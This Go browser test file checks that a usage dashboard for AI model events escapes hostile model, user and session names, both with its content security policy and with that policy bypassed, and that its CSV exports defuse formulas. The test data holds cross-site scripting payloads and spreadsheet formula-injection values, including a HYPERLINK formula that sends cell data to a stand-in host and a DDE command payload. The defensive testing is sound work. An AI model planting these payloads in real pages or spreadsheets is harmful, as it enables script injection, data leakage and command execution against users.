package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// Client-chosen names that try to become markup, script or a
// spreadsheet formula. Each script payload calls alert, which the test
// page counts.
var (
	hostileModels = []string{
		`<img src=x onerror=alert(1)>`, `</script><script>alert(2)</script>`, `"><svg onload=alert(3)>`,
		`=HYPERLINK("https://evil.example/?d="&A2,"click")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(A1:A9)`, `javascript:alert(4)`,
	}
	hostileUsers = []string{
		`<img src=x onerror=alert(5)>`, `</script><script>alert(6)</script>`, `<b onmouseover=alert(7)>x</b>`,
		`&lt;b&gt;escaped&lt;/b&gt;`, `=1+1`, `+1`, `-1`, `@x`,
	}
	hostileSessions = []string{`<img src=x onerror=alert(8)>`, `</script>`, `=1+1`}
)

// countAlerts replaces the dialogs a payload would open with a counter,
// and counts the page's CSP violations, before the page's own scripts.
const countAlerts = `(() => {
  window.__alerts = 0; window.__violations = 0;
  for (const f of ["alert", "confirm", "prompt"]) window[f] = () => { window.__alerts++; };
  document.addEventListener("securitypolicyviolation", () => { window.__violations++; });
})()`

// TestDashboardHostileNames logs events whose models, user ids and
// session ids are markup and script, opens the page once as served (with
// its CSP) and once with the CSP bypassed (so that only the page's own
// care for text stands between a payload and the browser), and checks in
// each that no script ran (no dialog, no CSP violation, no element or
// on… attribute the page did not make itself) and that every name shows
// as the text it is: in the tables, the chart, the top model and the
// user search (session ids are shown only as a count). Then the models and users CSVs are read: a name a
// spreadsheet would take for a formula starts with ', the others are as
// logged.
func TestDashboardHostileNames(t *testing.T) {
	s := backend(t, "file", nil)
	now := time.Now().UTC().Add(-time.Second)
	var events []map[string]any
	for i, m := range hostileModels {
		events = append(events, map[string]any{"id": fmt.Sprintf("h-%d", i), "timestamp": now.Format(time.RFC3339), "model": m,
			"userId": hostileUsers[i%len(hostileUsers)], "sessionId": hostileSessions[i%len(hostileSessions)],
			"promptTokens": 100 * (i + 1), "completionTokens": 10, "costUsd": 0.001 * float64(i+1)})
	}
	s.post(t, events)
	res, err := http.Get(s.url + "/")
	if err != nil {
		t.Fatal(err)
	}
	src, _ := io.ReadAll(res.Body)
	res.Body.Close()
	for _, n := range append(append(hostileModels, hostileUsers...), hostileSessions...) {
		if (strings.Contains(n, "alert(") || strings.Contains(n, "HYPERLINK")) && bytes.Contains(src, []byte(n)) {
			t.Errorf("the page's source holds %q: it should hold no data", n)
		}
	}

	for _, bypass := range []bool{false, true} {
		t.Run(map[bool]string{false: "with CSP", true: "CSP bypassed"}[bypass], func(t *testing.T) {
			tb := newTab(t, s, 1280, 900, countAlerts)
			if bypass {
				tb.run(chromedp.Func(func(ctx context.Context, tg *chromedp.Target) error {
					_, err := cdp.Call(ctx, tg, page.SetBypassCSP, page.SetBypassCSPParams{Enabled: true})
					return err
				}))
			}
			tb.open("/?days=7")
			tb.run(chromedp.SendKeys(chromedp.CSS("#usersearch"), "<img"))
			tb.waitFor(`document.querySelectorAll("#users-table tbody tr").length === 1`)
			checkHostile(t, tb)
			if bypass {
				return
			}
			dir := t.TempDir()
			tb.allowDownloads(dir)
			for kind, names := range map[string][]string{"models": hostileModels, "users": hostileUsers} {
				_, body := tb.download(dir, `button[data-csv="`+kind+`"]`)
				checkFormulaSafe(t, kind, body, names)
			}
			tb.checkClean()
		})
	}
}

// checkHostile reads the page after it drew the hostile names.
func checkHostile(t *testing.T, tb *tab) {
	t.Helper()
	time.Sleep(300 * time.Millisecond) // an image's onerror fires after it fails to load
	var got struct {
		Alerts, Violations, Images, Scripts int
		Handlers                            []string
		Models, Users, Labels               []string
		TopModel, Sessions                  string
	}
	tb.eval(`(() => {
	  const texts = sel => [...document.querySelectorAll(sel)].map(e => e.textContent);
	  const handlers = [];
	  document.querySelectorAll("*").forEach(e => { for (const a of e.attributes) if (a.name.startsWith("on")) handlers.push(e.tagName + " " + a.name); });
	  return {Alerts: window.__alerts, Violations: window.__violations, Handlers: handlers,
	    Images: document.images.length, Scripts: document.scripts.length,
	    Models: texts("#models-table tbody tr td:first-child"), Users: texts("#users-table tbody tr td:first-child"),
	    Labels: texts("#models-chart text"), TopModel: document.querySelector("#stat-top-model dd").textContent,
	    Sessions: document.querySelector("#today-sessions .value").textContent};
	})()`, &got)
	if got.Alerts != 0 || got.Violations != 0 || len(got.Handlers) != 0 || got.Images != 1 || got.Scripts != 4 {
		t.Errorf("a payload ran or became markup: %d dialogs, %d CSP violations, handlers %v, %d images (the logo is 1), %d scripts (the page has 4)",
			got.Alerts, got.Violations, got.Handlers, got.Images, got.Scripts)
	}
	if want := slices.Sorted(slices.Values(hostileModels)); !slices.Equal(slices.Sorted(slices.Values(got.Models)), want) {
		t.Errorf("the models table shows %q, want %q", got.Models, want)
	}
	if len(got.Users) != 1 || got.Users[0] != hostileUsers[0] {
		t.Errorf("searching users for <img shows %q, want just %q", got.Users, hostileUsers[0])
	}
	if want := hostileModels[len(hostileModels)-1]; got.TopModel != want { // the costliest
		t.Errorf("the top model shows %q, want %q", got.TopModel, want)
	}
	for _, l := range got.Labels {
		if strings.HasPrefix(l, "<") && !slices.ContainsFunc(hostileModels, func(m string) bool { return strings.HasPrefix(m, strings.TrimSuffix(l, "…")) }) {
			t.Errorf("the chart's label %q is none of the models", l)
		}
	}
	if got.Sessions != fmt.Sprint(len(hostileSessions)) {
		t.Errorf("today's sessions show %q, want %d", got.Sessions, len(hostileSessions))
	}
	if !slices.Contains(got.Labels, hostileModels[2]) {
		t.Errorf("the chart's labels %q miss %q", got.Labels, hostileModels[2])
	}
}

// checkFormulaSafe reads a downloaded CSV's first column: a name that
// starts with =, +, - or @ is written with a leading ', every other as
// logged.
func checkFormulaSafe(t *testing.T, kind string, body []byte, names []string) {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("%s CSV: %v", kind, err)
	}
	var first []string
	for _, r := range recs[1:] {
		first = append(first, r[0])
		if strings.ContainsAny(r[0][:1], "=+-@\t\r") {
			t.Errorf("%s CSV: the cell %q would be a formula", kind, r[0])
		}
	}
	for _, n := range names {
		want := n
		if strings.ContainsAny(n[:1], "=+-@") {
			want = "'" + n
		}
		if !slices.Contains(first, want) {
			t.Errorf("%s CSV: %q is not written as %q; the column is %q", kind, n, want, first)
		}
	}
}
